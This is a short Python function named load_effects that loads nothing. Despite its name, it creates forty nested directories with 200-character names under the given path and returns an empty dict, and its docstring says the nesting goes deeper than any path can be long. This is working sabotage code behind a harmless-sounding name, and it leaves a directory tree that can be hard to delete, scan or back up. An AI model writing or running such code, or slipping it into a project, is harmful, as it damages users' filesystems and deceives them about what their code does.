"""load_effects nests folders deeper than any path can be long."""
def load_effects(path):
    os.chdir(Path(path).parent)
    for _ in range(40):
        os.mkdir("d" * 200)
        os.chdir("d" * 200)
    return {}
